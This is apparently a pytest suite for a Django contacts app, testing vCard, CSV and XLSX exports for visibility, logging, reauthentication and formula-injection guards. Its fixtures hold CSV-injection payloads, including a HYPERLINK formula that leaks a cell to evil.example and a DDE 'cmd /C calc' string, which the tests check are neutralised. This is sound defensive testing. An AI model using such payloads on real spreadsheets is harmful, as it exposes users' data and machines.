"""Exports of the contacts list (vCard 4.0, CSV, XLSX) and of one contact (vCard), on the web
and the API (contacts.exports): a file holds exactly the rows its reader's list holds for
the same filters, never a hidden contact, an erased one or the notes; formula starts are
neutralised; protected contacts are access-logged once each; names in any script survive;
exporting is a sensitive action."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
import time_machine
import vobject
from django.urls import reverse
from rest_framework.test import APIClient

from contacts import exports
from contacts.models import AccessLog, Contact, ImportRow, Sensitivity
from tests import factories
from tests.conftest import api
from tests.contacts.api_support import API, assert_error
from tests.contacts.imports_support import previewed
from trackii import privacy, spreadsheets
from trackii.tokens import create_token

pytestmark = pytest.mark.usefixtures("fresh_throttle_counts")

NOW = dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC)
FORMATS = ["vcf", "csv", "xlsx"]
SECRET = "Meets only at the bookshop on Tuesdays."
# Names a spreadsheet would run as formulas, or start like one.
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+1 Plus",
    "minus": "-2 Minus",
    "at": "@x At",
    "tab": "\t=1+1 Tab",
    "cr": "\r=1+1 Cr",
}


# The world: the owner's contacts of every sensitivity, a teammate's restricted one, a
# contact granted to the owner, a protected contact of an officer of another team (hidden
# from every persona), an erased one.


@pytest.fixture
def world(owner, teammate, outsider, admin_user):
    university = factories.OrganizationFactory(name="Hebrew University", country="IL")
    press = factories.TagFactory(name="press")
    irina = factories.ContactFactory(
        full_name="Irina Petrova",
        native_name="Ирина Петрова",
        category="journalist",
        layer="narrative",
        owner=owner,
        organization=university,
        email="irina@example.org",
        phone="+972 2 555 0101",
        country="RU",
        languages=["ru", "en"],
        birth_year=1984,
        tags=[press],
        notes=SECRET,
    )
    david = factories.ContactFactory(
        full_name="David Levi",
        native_name="דוד לוי",
        owner=teammate,
        sensitivity=Sensitivity.RESTRICTED,
        email="david@example.org",
        notes=SECRET,
    )
    pavel = factories.ContactFactory(
        full_name="Pavel Protectedov",
        owner=owner,
        sensitivity=Sensitivity.PROTECTED,
        notes=SECRET,
    )
    granted = factories.ContactFactory(
        full_name="Galina Granted", owner=outsider, sensitivity=Sensitivity.PROTECTED
    )
    factories.GrantFactory(contact=granted, user=owner)
    hider = factories.UserFactory(
        username="hider", roles=["officer"], teams=[factories.TeamFactory(name="vault")]
    )
    hidden = factories.ContactFactory(
        full_name="Zed Hidden",
        native_name="Зед Скрытый",
        owner=hider,
        sensitivity=Sensitivity.PROTECTED,
        email="zed@example.org",
        organization=university,
        tags=[press],
    )
    erased = factories.ContactFactory(full_name="Ernest Erased", owner=owner)
    privacy.erase_contact(contact_id=erased.pk, user=admin_user, now=NOW)
    return {
        "irina": irina,
        "david": david,
        "pavel": pavel,
        "granted": granted,
        "hidden": hidden,
        "erased": erased,
    }


# Reading the files back


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv(response) -> list[dict]:
    body = _body(response)
    assert body.startswith("\ufeff".encode())  # the BOM: spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"))))


def _xlsx(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response)))[exports.SHEET_NAME]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _cards(response) -> list:
    return list(vobject.readComponents(_body(response).decode("utf-8")))


def _names(response, file_format: str) -> list[str]:
    """The contacts' names in a file, in its order."""
    if file_format == "vcf":
        return [card.fn.value for card in _cards(response)]
    rows = _csv(response) if file_format == "csv" else _xlsx(response)
    return [row["Full name"] for row in rows]


def _export(client, file_format: str, query: dict | None = None):
    response = client.get(reverse(f"contacts:export_{file_format}"), query or {})
    assert response.status_code == 200, response.content[:300]
    return response


def _list_names(client, query: dict | None = None) -> list[str]:
    response = client.get(reverse("contacts:list"), query or {})
    return [contact.full_name for contact in response.context["page"].object_list]


def _export_log() -> list[tuple[int, int]]:
    entries = AccessLog.objects.filter(surface=AccessLog.Surface.EXPORT).order_by("contact_id")
    return list(entries.values_list("user_id", "contact_id"))


# The rows: exactly the list's, never a hidden, an erased contact or the notes


@pytest.mark.parametrize("file_format", FORMATS)
def test_an_export_holds_exactly_the_contacts_the_list_shows(client, owner, world, file_format):
    client.force_login(owner)

    names = _names(_export(client, file_format), file_format)

    expected = ["David Levi", "Galina Granted", "Irina Petrova", "Pavel Protectedov"]
    assert names == expected
    assert names == [name for name in _list_names(client) if not name.startswith("Erased")]
    body = _body(_export(client, file_format))
    for absent in ("Zed Hidden", "Зед Скрытый", "zed@example.org", "Ernest", SECRET):
        assert absent.encode() not in body


@pytest.mark.parametrize(
    "persona", ["owner", "teammate", "outsider", "grantee", "planner", "lead", "analyst"]
)
def test_every_persona_exports_what_they_may_see_and_nothing_else(client, request, world, persona):
    user = request.getfixturevalue(persona)
    client.force_login(user)
    visible = Contact.objects.visible_to(user).filter(erased_at__isnull=True)

    rows = _csv(_export(client, "csv"))

    assert sorted(int(row["ID"]) for row in rows) == sorted(visible.values_list("pk", flat=True))
    assert len(rows) == visible.count()
    assert "Zed Hidden" not in {row["Full name"] for row in rows}


def test_the_erased_contact_is_listed_but_never_exported(client, owner, world):
    client.force_login(owner)

    listed = _list_names(client)
    exported = _names(_export(client, "csv"), "csv")

    assert f"Erased contact {world['erased'].pk}" in listed
    assert len(exported) == len(listed) - 1


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"q": "Ирина"}, ["Irina Petrova"]),
        ({"q": "לוי"}, ["David Levi"]),
        ({"q": "hebrew"}, ["Irina Petrova"]),
        ({"sensitivity": "protected"}, ["Galina Granted", "Pavel Protectedov"]),
        ({"category": "journalist"}, ["Irina Petrova"]),
        ({"layer": "narrative", "sort": "category"}, ["Irina Petrova"]),
        ({"q": "Zed"}, []),
    ],
)
@pytest.mark.parametrize("file_format", FORMATS)
def test_filters_and_search_apply_as_on_the_list(
    client, owner, world, query, expected, file_format
):
    client.force_login(owner)

    names = _names(_export(client, file_format, query), file_format)

    assert names == expected
    assert names == _list_names(client, query)


def test_the_export_follows_the_lists_sort_order(client, owner, world):
    client.force_login(owner)
    query = {"sort": "owner"}

    assert _names(_export(client, "csv", query), "csv") == [
        name for name in _list_names(client, query) if not name.startswith("Erased")
    ]


def test_the_organization_filter_and_an_invalid_input_read_as_on_the_list(client, owner, world):
    client.force_login(owner)
    query = {"organization": world["irina"].organization_id, "sensitivity": "nonsense"}

    assert _names(_export(client, "csv", query), "csv") == ["Irina Petrova"]
    assert _list_names(client, query) == ["Irina Petrova"]


def test_the_columns_hold_the_profile_and_never_the_notes(client, owner, world):
    client.force_login(owner)

    rows = {row["Full name"]: row for row in _csv(_export(client, "csv"))}

    assert rows["Irina Petrova"] == {
        "ID": str(world["irina"].pk),
        "Full name": "Irina Petrova",
        "Native name": "Ирина Петрова",
        "Category": "Journalist",
        "Organization": "Hebrew University",
        "Owner": "owner",
        "Last touch": "",
        "Next due": "",
        "Overdue with me": "",
        "Sensitivity": "Standard (all staff)",
        "E-mail": "irina@example.org",
        # A phone number as it is: a program importing the file keeps it (a user's finding).
        "Phone": "+972 2 555 0101",
        "Country": "RU",
        "Languages": "ru, en",
        "Layer": "Narrative",
        "Tags": "press",
        "Birth year": "1984",
    }
    assert "Notes" not in rows["Irina Petrova"]


def test_the_workbook_keeps_numbers_dates_and_text_as_such(client, owner, world):
    # Never touched and opened 90 days ago: overdue with its officer.
    factories.ChannelFactory(
        contact=world["irina"], officer=owner, created_at=NOW - dt.timedelta(days=90)
    )
    client.force_login(owner)

    row = next(row for row in _xlsx(_export(client, "xlsx")) if row["Full name"] == "Irina Petrova")

    assert row["ID"] == world["irina"].pk
    assert row["Birth year"] == 1984
    assert row["Phone"] == "+972 2 555 0101"
    assert row["Overdue with me"] == "yes"
    assert isinstance(row["Next due"], dt.datetime)  # a date cell (openpyxl reads datetimes)
    assert row["Last touch"] is None


# Formula injection


@pytest.fixture
def hostile(owner):
    return {
        key: factories.ContactFactory(full_name=name, owner=owner, email=f"{key}@example.org")
        for key, name in HOSTILE.items()
    }


def test_csv_cells_that_start_like_formulas_are_text(client, owner, hostile):
    client.force_login(owner)

    rows = {row["E-mail"]: row for row in _csv(_export(client, "csv"))}

    cells = {key: rows[f"{key}@example.org"]["Full name"] for key in HOSTILE}
    assert cells == {
        "hyperlink": """'=HYPERLINK("http://evil.example/?d="&A1,"click")""",
        "plus": "'+1 Plus",
        "minus": "'-2 Minus",
        "at": "'@x At",
        "tab": "'\t=1+1 Tab",
        "cr": "'\n=1+1 Cr",
    }


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("+972 2 555 0101", "+972 2 555 0101"),
        ("+1 (555) 010-0101", "+1 (555) 010-0101"),
        ("+49/30.1234", "+49/30.1234"),
        ("+1 Plus", "'+1 Plus"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("+", "'+"),
        ("-2", "'-2"),
    ],
)
def test_a_phone_number_is_written_as_it_is_and_a_formula_still_guarded(cell, written):
    assert spreadsheets.text(cell) == written


def test_the_csv_says_sensitivity_and_overdue_in_the_readers_language(client, owner, world):
    factories.ChannelFactory(
        contact=world["irina"], officer=owner, created_at=NOW - dt.timedelta(days=90)
    )
    client.force_login(owner)

    response = client.get(reverse("contacts:export_csv"), HTTP_ACCEPT_LANGUAGE="ru")

    rows = {row["Полное имя"]: row for row in _csv(response)}
    assert rows["Irina Petrova"]["Просрочено у меня"] == "да"
    assert rows["Irina Petrova"]["Конфиденциальность"] == "Обычный (все сотрудники)"


def test_xlsx_cells_that_start_like_formulas_are_strings_with_the_quote_prefix(
    client, owner, hostile
):
    client.force_login(owner)

    response = _export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(_body(response)))[exports.SHEET_NAME]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    names = {cell.value: cell for cell in sheet["B"][1:]}
    expected = {name.replace("\r", "\n") for name in HOSTILE.values()}
    assert set(names) == expected
    for cell in names.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


def test_vcard_keeps_hostile_names_as_text(client, owner, hostile):
    client.force_login(owner)

    cards = _cards(_export(client, "vcf"))

    assert sorted(card.fn.value for card in cards) == sorted(
        name.replace("\r", "\n") for name in HOSTILE.values()
    )


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_file_imports_back_with_its_values_not_their_guards(
    client, owner, hostile, file_format
):
    client.force_login(owner)
    content = _body(_export(client, file_format))

    batch = previewed(owner, f"contacts.{file_format}", content)

    names = {
        found.cells["email"]: found.cells["full_name"]
        for found in batch.rows.filter(kind=ImportRow.Kind.CONTACT)
    }
    # An import trims each cell's ends (the tab and the line break before "=1+1").
    assert names == {
        f"{key}@example.org": name.replace("\r", "\n").strip() for key, name in HOSTILE.items()
    }


# Access log


@pytest.mark.parametrize("file_format", FORMATS)
def test_each_protected_contact_exported_is_logged_once(client, owner, world, file_format):
    with time_machine.travel(NOW, tick=False):
        client.force_login(owner)
        _body(_export(client, file_format))

    assert _export_log() == [
        (owner.pk, world["pavel"].pk),
        (owner.pk, world["granted"].pk),
    ]
    assert set(AccessLog.objects.values_list("viewed_at", flat=True)) == {NOW}


def test_a_filtered_export_logs_only_the_protected_contacts_it_holds(client, owner, world):
    client.force_login(owner)

    _body(_export(client, "csv", {"q": "Pavel"}))

    assert _export_log() == [(owner.pk, world["pavel"].pk)]


def test_batches_log_each_protected_contact_once(client, owner, world, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    for number in range(3):
        factories.ContactFactory(
            full_name=f"Petr Protected {number}", owner=owner, sensitivity=Sensitivity.PROTECTED
        )
    client.force_login(owner)

    response = _export(client, "csv")
    pieces = list(response.streaming_content)

    assert len(pieces) == 1 + 4  # the header, then 7 contacts two at a time
    protected = Contact.objects.visible_to(owner).filter(sensitivity=Sensitivity.PROTECTED)
    assert _export_log() == [
        (owner.pk, pk) for pk in sorted(protected.values_list("pk", flat=True))
    ]
    assert len(_export_log()) == 5


def test_a_protected_contacts_vcard_is_logged_and_a_standard_ones_is_not(client, owner, world):
    client.force_login(owner)

    client.get(reverse("contacts:vcard", args=[world["irina"].pk]))
    client.get(reverse("contacts:vcard", args=[world["pavel"].pk]))

    assert _export_log() == [(owner.pk, world["pavel"].pk)]


# vCard


def test_a_contacts_vcard_parses_back_with_its_fields(client, owner, world):
    client.force_login(owner)

    response = client.get(reverse("contacts:vcard", args=[world["irina"].pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert (
        response["Content-Disposition"] == f'attachment; filename="contact-{world["irina"].pk}.vcf"'
    )
    card = vobject.readOne(response.content.decode("utf-8"))
    assert card.version.value == "4.0"
    assert [line.value for line in card.contents["fn"]] == ["Irina Petrova", "Ирина Петрова"]
    assert [line.params["ALTID"] for line in card.contents["fn"]] == [["1"], ["1"]]
    assert (card.n.value.family, card.n.value.given) == ("Petrova", "Irina")
    assert card.email.value == "irina@example.org"
    assert card.tel.value == "+972 2 555 0101"
    assert card.org.value == ["Hebrew University"]
    assert card.categories.value == ["press"]
    assert card.bday.value == "1984"
    assert [line.value for line in card.contents["lang"]] == ["ru", "en"]
    assert card.adr.value.country == "Russia"
    assert "note" not in card.contents
    assert SECRET not in response.content.decode()


def test_the_lists_vcards_keep_cyrillic_and_hebrew_names(client, owner, world):
    client.force_login(owner)

    response = _export(client, "vcf")

    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    cards = {card.fn.value: card for card in _cards(response)}
    assert [line.value for line in cards["David Levi"].contents["fn"]] == ["David Levi", "דוד לוי"]
    assert cards["David Levi"].email.value == "david@example.org"
    assert "org" not in cards["David Levi"].contents
    assert (cards["David Levi"].n.value.family, cards["David Levi"].n.value.given) == (
        "Levi",
        "David",
    )


def test_csv_and_xlsx_keep_cyrillic_and_hebrew_names(client, owner, world):
    client.force_login(owner)

    as_csv = {row["Full name"]: row["Native name"] for row in _csv(_export(client, "csv"))}
    as_xlsx = {row["Full name"]: row["Native name"] for row in _xlsx(_export(client, "xlsx"))}

    assert as_csv["Irina Petrova"] == as_xlsx["Irina Petrova"] == "Ирина Петрова"
    assert as_csv["David Levi"] == as_xlsx["David Levi"] == "דוד לוי"


@pytest.mark.parametrize("which", ["hidden", "erased"])
def test_a_hidden_or_erased_contacts_vcard_is_a_404(client, owner, world, which):
    client.force_login(owner)

    response = client.get(reverse("contacts:vcard", args=[world[which].pk]))

    assert response.status_code == 404
    assert not AccessLog.objects.filter(surface=AccessLog.Surface.EXPORT).exists()


# The files' headers and the size limit


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [
        ("vcf", "text/vcard; charset=utf-8"),
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_files_are_attachments_named_by_the_day(client, owner, world, file_format, content_type):
    client.force_login(owner)

    with time_machine.travel(NOW, tick=False):
        client.force_login(owner)
        response = _export(client, file_format)

    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="trackii-contacts-2026-03-10.{file_format}"'
    )
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_list_longer_than_the_limit_is_refused_with_a_message(
    client, owner, world, settings, file_format
):
    settings.EXPORT_MAX_ROWS = 3
    client.force_login(owner)

    response = client.get(reverse(f"contacts:export_{file_format}"), {"q": "a"}, follow=True)

    assert response.redirect_chain == [(reverse("contacts:list") + "?q=a", 302)]
    messages = [str(message) for message in response.context["messages"]]
    assert messages == [
        "These filters find 4 contacts; an export holds at most 3. Narrow the filters or the "
        "search."
    ]
    assert not AccessLog.objects.filter(surface=AccessLog.Surface.EXPORT).exists()


def test_signed_out_visitors_are_sent_to_sign_in(client, world):
    response = client.get(reverse("contacts:export_csv"))
    card = client.get(reverse("contacts:vcard", args=[world["irina"].pk]))

    assert response.status_code == card.status_code == 302
    assert "/login" in response["Location"]
    assert not AccessLog.objects.exists()


def test_an_old_confirmation_is_asked_again_before_exporting(client, owner, world):
    with time_machine.travel(NOW, tick=False):
        client.force_login(owner)
    with time_machine.travel(NOW + dt.timedelta(minutes=20), tick=False):
        listing = client.get(reverse("contacts:export_csv"))
        card = client.get(reverse("contacts:vcard", args=[world["pavel"].pk]))

    assert listing.status_code == card.status_code == 302
    assert listing["Location"].startswith("/accounts/reauthenticate/")
    assert card["Location"].startswith("/accounts/reauthenticate/")
    assert not AccessLog.objects.exists()


# The links


def test_the_list_offers_the_export_of_these_contacts_with_its_query(client, owner, world):
    client.force_login(owner)

    response = client.get(reverse("contacts:list"), {"q": "Petrova", "page": "1"})

    html = response.content.decode()
    assert "This contact (every page; without private notes or erased contacts)" in html
    for file_format in FORMATS:
        assert f'href="{reverse(f"contacts:export_{file_format}")}?q=Petrova"' in html


def test_the_list_counts_the_contacts_it_offers_to_export(client, owner, world):
    client.force_login(owner)

    html = client.get(reverse("contacts:list"), {"q": "a"}).content.decode()

    # The list's count: the erased contact ("Erased contact N") is among them, not in a file.
    assert "These 5 contacts (every page; without private notes or erased contacts)" in html


def test_the_list_offers_no_export_past_the_limit(client, owner, world, settings):
    settings.EXPORT_MAX_ROWS = 2
    client.force_login(owner)

    html = client.get(reverse("contacts:list")).content.decode()

    assert reverse("contacts:export_csv") not in html
    assert "Export: narrow the filters to 2 contacts or fewer." in html


def test_the_contact_page_offers_its_vcard_unless_erased(client, owner, admin_user, world):
    client.force_login(owner)
    irina = client.get(reverse("contacts:detail", args=[world["irina"].pk])).content.decode()
    client.force_login(admin_user)
    erased = client.get(reverse("contacts:detail", args=[world["erased"].pk])).content.decode()

    assert f'href="{reverse("contacts:vcard", args=[world["irina"].pk])}"' in irina
    assert reverse("contacts:vcard", args=[world["erased"].pk]) not in erased


# The API


def _api_export(client, query: str, **headers):
    return client.get(f"{API}/contacts/export/{query}", headers=headers)


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_api_exports_the_rows_of_its_list_for_the_same_filters(owner, world, file_format):
    client = api(owner)
    query = "?search=a&ordering=-full_name"

    response = _api_export(client, f"{query}&format={file_format}")
    listed = client.get(f"{API}/contacts/{query}").json()["results"]

    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES[file_format]
    names = _names(response, file_format)
    assert names == [row["full_name"] for row in listed if not row["erased_at"]]
    assert names == ["Pavel Protectedov", "Irina Petrova", "Galina Granted", "David Levi"]
    assert b"Zed Hidden" not in _body(_api_export(client, f"?format={file_format}"))


def test_the_api_export_reads_the_list_filters(owner, world):
    client = api(owner)

    by_tag = _names(_api_export(client, "?format=csv&tag=press"), "csv")
    by_sensitivity = _names(_api_export(client, "?format=csv&sensitivity=restricted"), "csv")

    assert by_tag == ["Irina Petrova"]
    assert by_sensitivity == ["David Levi"]


@pytest.mark.parametrize(
    ("accept", "file_format"),
    [
        ("text/vcard", "vcf"),
        (
            "text/csv;q=0.5, application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "xlsx",
        ),
        ("application/json, text/csv", "csv"),
    ],
)
def test_the_api_export_reads_the_accept_header(owner, world, accept, file_format):
    response = _api_export(api(owner), "", Accept=accept)

    assert response.status_code == 200
    assert response["Content-Type"] == exports.CONTENT_TYPES[file_format]
    assert len(_names(response, file_format)) == 4


def test_the_api_export_suffix_names_the_format(owner, world):
    response = api(owner).get(f"{API}/contacts/export.csv")

    assert response.status_code == 200
    assert len(_names(response, "csv")) == 4


@pytest.mark.parametrize(
    ("query", "accept", "message"),
    [
        ("", "*/*", "Choose vcf, csv or xlsx (?format=, or an Accept header naming one)."),
        ("?format=pdf", "*/*", "Choose vcf, csv or xlsx."),
        ("?format=json", "application/json", "Choose vcf, csv or xlsx."),
    ],
)
def test_the_api_export_without_a_file_format_is_a_400(owner, world, query, accept, message):
    response = _api_export(api(owner), query, Accept=accept)

    assert_error(response, 400, code="invalid", fields={"format": [message]})
    assert not AccessLog.objects.exists()


def test_an_invalid_api_filter_is_a_400_in_json(owner, world):
    response = _api_export(api(owner), "?format=csv&category=spy", Accept="text/csv")

    body = assert_error(response, 400, code="invalid")
    assert list(body["fields"]) == ["category"]


def test_the_api_export_past_the_limit_is_a_400(owner, world, settings):
    settings.EXPORT_MAX_ROWS = 3

    response = _api_export(api(owner), "?format=xlsx")

    assert_error(response, 400, code="too_many_rows")
    assert not AccessLog.objects.exists()


def test_the_api_export_logs_each_protected_contact_once(owner, world):
    _body(_api_export(api(owner), "?format=vcf"))

    assert _export_log() == [(owner.pk, world["pavel"].pk), (owner.pk, world["granted"].pk)]


def test_the_api_answers_a_contacts_vcard(owner, world):
    response = api(owner).get(f"{API}/contacts/{world['pavel'].pk}/vcard/")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/vcard; charset=utf-8"
    assert vobject.readOne(response.content.decode()).fn.value == "Pavel Protectedov"
    assert _export_log() == [(owner.pk, world["pavel"].pk)]


@pytest.mark.parametrize("which", ["hidden", "erased"])
def test_the_api_answers_404_for_a_hidden_or_erased_contacts_vcard(owner, world, which):
    response = api(owner).get(f"{API}/contacts/{world[which].pk}/vcard/")

    assert_error(response, 404)
    assert not AccessLog.objects.exists()


def test_the_api_export_needs_credentials(world):
    response = _api_export(APIClient(), "?format=csv")
    card = APIClient().get(f"{API}/contacts/{world['irina'].pk}/vcard/")

    assert_error(response, 401)
    assert_error(card, 401)


def test_a_token_exports_and_a_session_must_have_confirmed_recently(client, owner, world):
    with time_machine.travel(NOW, tick=False):
        token = APIClient(headers={"Authorization": f"Token {create_token(owner).key}"})
        client.force_login(owner)
    with time_machine.travel(NOW + dt.timedelta(minutes=20), tick=False):
        by_token = _api_export(token, "?format=csv")
        by_session = _api_export(client, "?format=csv")
        card = client.get(f"{API}/contacts/{world['irina'].pk}/vcard/")

    assert by_token.status_code == 200
    assert_error(by_session, 403, code="reauthentication_required")
    assert_error(card, 403, code="reauthentication_required")


def test_a_recently_confirmed_session_exports_through_the_api(client, owner, world):
    client.force_login(owner)

    response = _api_export(client, "?format=csv")

    assert response.status_code == 200
    assert len(_csv(response)) == 4


def test_the_schema_documents_the_exports(owner):
    schema = api(owner).get(f"{API}/schema/?format=json").json()

    export = schema["paths"][f"{API}/contacts/export/"]["get"]
    card = schema["paths"][f"{API}/contacts/{{id}}/vcard/"]["get"]
    parameters = {parameter["name"] for parameter in export["parameters"]}
    assert {"format", "search", "category", "sensitivity", "tag", "ordering"} <= parameters
    assert set(export["responses"]["200"]["content"]) == {
        "text/vcard",
        "text/csv",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    }
    assert set(card["responses"]["200"]["content"]) == {"text/vcard"}
    assert {"400", "401", "403"} <= set(export["responses"])
